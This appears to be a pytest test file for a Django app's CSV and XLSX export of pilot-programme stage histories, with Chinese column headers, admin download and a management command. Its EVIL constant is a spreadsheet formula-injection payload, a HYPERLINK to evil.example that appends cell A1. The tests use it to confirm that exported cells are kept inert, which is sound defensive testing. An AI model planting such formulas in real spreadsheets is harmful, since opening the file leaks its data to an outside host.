"""Every pilot's history as CSV and XLSX (pilots.exports, `pilot_history`): rows in order, Chinese headers,
local times, and text a spreadsheet would run kept inert."""

from __future__ import annotations

import io
from zoneinfo import ZoneInfo

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.http import Http404
from django.test import RequestFactory
from django.utils import timezone
from openpyxl import load_workbook

from assessments.models import Level
from pilots import exports
from pilots.models import StageRecord
from pilots.services import applications
from pilots.services.moves import pilot_move
from pilots.stages import Stage
from tests.pilots.pilot_factory import Walk, at_stage, batch, signed
from tests.site.formula_checks import assert_csv_inert, assert_xlsx_inert, csv_cells

EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'


@pytest.fixture
def history(assess, bureau, province, city, county):
    """A county returned once (the reason a formula), resubmitted, accepted and signed; a city not listed."""
    pilot = at_stage(Walk(bureau, province, assess, county), Stage.SUBMITTED)
    pilot_move(user=province, pilot=pilot, move="return", reason=EVIL)
    applications.application_submit(user=bureau, application=pilot.application)
    pilot = pilot_move(user=province, pilot=pilot, move="accept")
    signed(province, pilot, "application")
    later = at_stage(Walk(bureau, province, assess, city), Stage.NOT_LISTED,
                     batch(province, timezone.localdate().year + 1))
    StageRecord.objects.filter(pilot=later, move="reject").update(reason="@SUM(1+1)")
    return pilot, later


def test_csv_has_one_row_per_move_in_order_and_is_inert(history):
    pilot, later = history
    text = exports.csv_text(exports.pilots_of())
    assert text.startswith("\ufeff批次年度,申报市,试点地区,级别,申报星级,操作,原阶段,新阶段,理由")
    rows = assert_csv_inert(text, [EVIL, "@SUM(1+1)"])
    year, next_year = str(pilot.application.batch.year), str(later.application.batch.year)
    county = [year, "示范市", "示范县", Level.COUNTY.label, "四星"]
    city = [next_year, "示范市", "示范市", Level.CITY.label, "四星"]
    assert [row[:8] for row in rows[1:]] == [
        [*county, "提交申报", "申报", "形式审查"],
        [*county, "形式审查不通过，退回修改", "形式审查", "申报"],
        [*county, "提交申报", "申报", "形式审查"],
        [*county, "形式审查通过，进入专家评估", "形式审查", "专家评估"],
        [*city, "提交申报", "申报", "形式审查"],
        [*city, "形式审查通过，进入专家评估", "形式审查", "专家评估"],
        [*city, "不予列入名单", "专家评估", "未列入名单"],
    ]
    first = pilot.history.order_by("at", "pk").first()
    shanghai = first.at.astimezone(ZoneInfo("Asia/Shanghai")).strftime("%Y-%m-%d %H:%M")
    assert rows[1][9:] == [first.deadline.isoformat(), "bureau", shanghai]
    assert rows[2][8] == "'" + EVIL and rows[2][10] == "province"


def test_xlsx_has_the_moves_and_one_row_per_pilot_with_chinese_headers(history, tmp_path):
    pilot, later = history
    out = io.BytesIO()
    exports.write_xlsx(exports.pilots_of(), out)
    sheets = assert_xlsx_inert(out.getvalue(), [EVIL, "@SUM(1+1)"])
    assert list(sheets) == ["阶段记录", "试点一览"]
    book = load_workbook(io.BytesIO(out.getvalue()))
    moves, pilots = (list(book[name].iter_rows(values_only=True)) for name in ("阶段记录", "试点一览"))
    assert list(moves[0]) == exports.HISTORY_HEAD and moves[0][0] == "批次年度"
    assert [row[5] for row in moves[1:]] == ["提交申报", "形式审查不通过，退回修改", "提交申报",
                                             "形式审查通过，进入专家评估", "提交申报", "形式审查通过，进入专家评估",
                                             "不予列入名单"]
    assert moves[1][0] == pilot.application.batch.year  # numbers stay numbers
    assert pilots[0][:9] == ("批次年度", "申报市", "试点地区", "级别", "申报星级", "当前阶段", "本阶段截止日期",
                             "是否逾期", "授予星级")
    county_row, city_row = pilots[1], pilots[2]
    assert county_row[2:9] == ("示范县", Level.COUNTY.label, "四星", "专家评估", pilot.deadline.isoformat(), "否", None)
    assert county_row[9] == 250 and county_row[10:] == (None, None, None)  # the signed application review
    assert city_row[2] == "示范市" and city_row[5] == "未列入名单" and city_row[9] is None  # never signed


def test_the_admin_download_and_the_command(history, province, tmp_path):
    pilot, later = history
    get = RequestFactory().get
    response = exports.history_response(get("/", {"format": "csv", "batch": str(later.application.batch.year)}))
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == f'attachment; filename="pilot-history-{later.application.batch.year}.csv"'
    assert [row[2] for row in csv_cells(response.content.decode("utf-8"))[1:]] == ["示范市"] * 3
    response = exports.history_response(get("/"))
    assert load_workbook(io.BytesIO(response.content)).sheetnames == ["阶段记录", "试点一览"]
    for query in ({"format": "pdf"}, {"batch": "1999"}, {"batch": "x"}):
        with pytest.raises(Http404):
            exports.history_response(get("/", query))
    target, out = tmp_path / "history.csv", io.StringIO()
    call_command("pilot_history", "--format", "csv", "--output", str(target), stdout=out)
    assert "已导出 2 个试点的 7 条阶段记录" in out.getvalue()
    assert target.read_bytes().startswith("\ufeff批次年度".encode())
    call_command("pilot_history", "--output", str(tmp_path / "h.xlsx"), "--batch", str(pilot.application.batch.year),
                 stdout=out)
    assert len(list(load_workbook(tmp_path / "h.xlsx")["阶段记录"].iter_rows())) == 5
    with pytest.raises(CommandError, match="没有 1999 年度的试点批次"):
        call_command("pilot_history", "--output", str(target), "--batch", "1999")


def test_the_province_downloads_the_history_from_the_admin(history, province, bureau, client):
    pilot, _ = history
    client.force_login(province)
    response = client.get("/admin/pilots/")
    assert 'href="/admin/pilots/export/' in response.content.decode()
    response = client.get("/admin/pilots/export/", {"format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.content.decode("utf-8").startswith("\ufeff批次年度")
    client.force_login(bureau)  # a city's bureau sees its pilots, not the province's export
    response = client.get("/admin/pilots/export/", {"format": "csv"})
    assert response.status_code in (302, 403) and not response.content.startswith("\ufeff".encode())
